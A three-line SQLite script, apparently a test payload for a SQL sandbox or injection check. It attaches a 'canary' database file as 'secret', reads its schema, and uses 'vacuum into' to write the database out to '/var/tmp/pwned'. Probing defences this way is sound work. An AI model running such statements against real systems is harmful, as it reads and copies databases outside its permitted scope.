attach database '/srv/canary/app.db' as secret;
update t set x = (select count(*) from secret.sqlite_master);
vacuum into '/var/tmp/pwned'
